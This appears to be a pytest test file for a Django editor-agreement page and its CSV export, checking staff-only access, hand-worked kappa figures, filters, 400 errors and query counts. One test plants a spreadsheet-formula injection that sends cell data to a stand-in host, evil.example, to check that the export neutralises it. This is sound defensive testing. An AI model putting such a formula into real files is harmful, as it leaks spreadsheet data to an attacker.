"""The agreement page and its CSV: staff only, figures worked by hand, filters, 400 on
a bad parameter, queries constant with the number of units and double reviews."""

from __future__ import annotations

import csv
import io
from datetime import timedelta

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from articles.agreement import blind
from articles.agreement.models import DoubleReview
from articles.models import Article
from tests.builders import build_comparison

from .conftest import ROLES, client_as, review_everything

EXPECTED = {
    "signed_out": 302,
    "no_role": 403,
    "viewer": 403,
    "third_editor": 403,
    "first": 403,
    "second": 403,
    "staff": 200,
}
PAGE, CSV = reverse("articles:agreement"), reverse("articles:agreement_csv")


@pytest.fixture
def ready(double_review, first, second) -> DoubleReview:
    """Worked by hand (units 0-4, suggestions on units 1 and 2):
    edna accepts both suggestions and flags unit 3 (omission); otto accepts unit 1's,
    dismisses unit 2's, flags unit 3 (omission) and unit 4 (addition).

    Suggestions: (acc, acc), (acc, dis): p_o = 0.5; edna accepts 2/2, otto 1/2:
      p_e = 1 x 0.5 + 0 x 0.5 = 0.5, kappa = 0.
    Units flagged: edna 1 2 3, otto 1 3 4: agreed on 0 1 3, p_o = 3/5 = 0.6;
      p_e = 0.6 x 0.6 + 0.4 x 0.4 = 0.52, kappa = 0.08 / 0.48 = 0.17.
    Categories: 4 used x 5 units = 20 items, 2 differ (unit 2 pronoun, unit 4
      addition): p_o = 0.9; each says yes 3/20: p_e = 0.15^2 + 0.85^2 = 0.745,
      kappa = 0.155 / 0.255 = 0.61.
    """
    review_everything(double_review, first, accept={1, 2}, own={3: "omission"})
    review_everything(double_review, second, accept={1}, own={3: "omission", 4: "addition"})
    return double_review


@pytest.mark.parametrize("role", ROLES)
@pytest.mark.parametrize("address", [PAGE, CSV])
def test_it_is_for_staff_only(client, accounts, role, address):
    response = client_as(client, accounts, role).get(address)
    assert response.status_code == EXPECTED[role]


def test_it_shows_the_figures_worked_by_hand(client, accounts, ready):
    body = client_as(client, accounts, "staff").get(PAGE).content.decode()
    overall = body.split('id="overall"')[1].split("</table>")[0]
    cells = [c.split("<")[0] for c in overall.split('<td class="num">')[1:]]
    assert cells == ["1", "2", "50.0 %", "0.00", "5", "60.0 %", "0.17", "20", "90.0 %", "0.61"]
    assert "edna &amp; otto" in body and "Wire" in body


def test_it_writes_the_same_figures_to_csv(client, accounts, ready):
    response = client_as(client, accounts, "staff").get(CSV)
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    units = next(r for r in rows if r["scope"] == "pair" and r["measure"] == "units")
    assert units["name"] == "edna & otto"
    assert (units["items"], units["agreed"]) == ("5", "3")
    assert (units["raw_agreement"], units["chance_agreement"]) == ("0.6000", "0.5200")
    assert units["kappa"] == "0.1667"
    scopes = {r["scope"] for r in rows}
    assert scopes == {"all", "pair", "outlet", "comparison", "category"}
    omission = next(r for r in rows if r["scope"] == "category" and r["name"] == "omission")
    assert omission["kappa"] == "1.0000"


def test_it_writes_outlets_and_names_as_text_a_spreadsheet_never_runs(
    client, accounts, double_review, first, second
):
    comparison = double_review.comparison
    outlet = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    Article.objects.filter(pk=comparison.retranslation_id).update(outlet=outlet)
    first.username = "@edna"  # Django's user names may start with @, + or -
    first.save(update_fields=["username"])
    review_everything(double_review, first, accept={1})
    review_everything(double_review, second, accept={1})
    response = client_as(client, accounts, "staff").get(CSV)
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    names = {r["scope"]: r["name"] for r in rows if r["scope"] in ("outlet", "pair")}
    assert names == {"outlet": "'" + outlet, "pair": "'@edna & otto"}
    # The page shows them as they are, escaped.
    page = client.get(PAGE).content.decode()
    assert "=HYPERLINK(&quot;http://evil.example/?&quot;&amp;A1,&quot;click&quot;)" in page


def test_it_shows_an_undefined_kappa_as_n_a(client, accounts, double_review, first, second):
    # Both dismiss everything and flag nothing: every item one same label, p_e = 1.
    review_everything(double_review, first)
    review_everything(double_review, second)
    response = client_as(client, accounts, "staff").get(CSV)
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    suggestions = next(r for r in rows if r["scope"] == "all" and r["measure"] == "suggestions")
    assert (suggestions["raw_agreement"], suggestions["kappa"]) == ("1.0000", "n/a")
    assert "n/a" in client.get(PAGE).content.decode()


def test_it_filters_by_editor_outlet_and_date(client, accounts, ready, staff, first):
    third = accounts["third_editor"]
    other = build_comparison([("One.", "Uno."), ("Two.", "Dos.")], title="Other story")
    pair = blind.request_double_review(user=staff, comparison=other, first=first, second=third)
    review_everything(pair, first)
    review_everything(pair, third)
    c = client_as(client, accounts, "staff")
    both = c.get(PAGE).content.decode()
    assert "edna &amp; otto" in both and "edna &amp; tess" in both
    only_otto = c.get(PAGE, {"editor": accounts["second"].pk}).content.decode()
    assert "edna &amp; otto" in only_otto and "edna &amp; tess" not in only_otto
    wire = c.get(PAGE, {"outlet": "Wire"}).content.decode()
    assert "edna &amp; tess" not in wire
    tomorrow = (timezone.localdate() + timedelta(days=1)).isoformat()
    later = c.get(PAGE, {"from": tomorrow}).content.decode()
    assert "No double review with both reviews handed in matches the filter" in later
    today = timezone.localdate().isoformat()
    assert "edna &amp; tess" in c.get(PAGE, {"from": today, "to": today}).content.decode()


@pytest.mark.parametrize(
    "params, name",
    [
        ({"from": "yesterday"}, "from:"),
        ({"to": "2026-13-01"}, "to:"),
        ({"from": "2026-05-02", "to": "2026-05-01"}, "to:"),
        ({"outlet": "Nowhere"}, "outlet:"),
        ({"editor": "edna"}, "editor:"),
        ({"editor": "99999"}, "editor:"),
        ({"editor": "²"}, "editor:"),  # a digit to str.isdigit(), not to int()
    ],
)
@pytest.mark.parametrize("address", [PAGE, CSV])
def test_it_answers_400_naming_a_bad_parameter(client, accounts, ready, params, name, address):
    response = client_as(client, accounts, "staff").get(address, params)
    assert response.status_code == 400
    assert response.content.decode().startswith(name)


def _finished(staff, first, second, units: int) -> None:
    pairs = [(f"Sentence {n}.", f"Phrase {n}.") for n in range(units)]
    flags = {n: [{"category": "factual.name", "severity": "major"}] for n in range(units)}
    comparison = build_comparison(pairs, flags=flags, title=f"{units} units")
    double_review = blind.request_double_review(
        user=staff, comparison=comparison, first=first, second=second
    )
    review_everything(double_review, first, accept=set(range(0, units, 2)))
    review_everything(double_review, second, accept=set(range(0, units, 3)), own={0: "omission"})


def test_it_makes_the_same_queries_for_more_units_and_double_reviews(client, staff, first, second):
    client.force_login(staff)
    _finished(staff, first, second, 3)
    counts = []
    with CaptureQueriesContext(connection) as queries:
        assert client.get(PAGE).status_code == 200
    counts.append(len(queries))
    for size in (30, 12, 25):
        _finished(staff, first, second, size)
    with CaptureQueriesContext(connection) as queries:
        assert client.get(PAGE).status_code == 200
    counts.append(len(queries))
    # Session, user, permissions; outlets and editors (the filter's choices); double
    # reviews, their reviews and editors; units, suggestions, decisions, own flags.
    # 13, and one for the header's unread notifications (articles/discussion).
    assert counts[0] == counts[1] <= 14
